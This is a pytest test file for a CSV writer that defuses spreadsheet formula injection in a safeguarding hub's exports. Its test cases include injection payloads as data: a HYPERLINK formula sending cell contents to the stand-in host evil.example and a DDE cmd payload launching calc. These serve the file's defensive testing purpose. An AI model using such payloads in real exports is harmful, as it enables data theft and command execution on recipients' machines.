"""The writer of the CSV files the hub hands out (src/safeguarding/core/csvfile.py)."""

from __future__ import annotations

import csv
import io

import pytest

from safeguarding.core.csvfile import neutralise, spreadsheet_safe_writer


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Open")', '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1,1)", "'@SUM(1,1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Chloe", "Chloe"),
        ("", ""),
        ("a=b", "a=b"),  # only the first character starts a formula
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: str, written: str) -> None:
    assert neutralise(value) == written


def test_numbers_and_empty_values_are_left_to_the_csv_module() -> None:
    assert neutralise(-1) == -1
    assert neutralise(None) is None


def test_the_writer_neutralises_every_cell_and_keeps_rfc_4180_quoting() -> None:
    out = io.StringIO()
    writer = spreadsheet_safe_writer(out)

    writer.writerow(["=1+1", 'say "hi", then go', 7])
    writer.writerows([["@me"], ["plain"]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", 'say "hi", then go', "7"], ["'@me"], ["plain"],
    ]
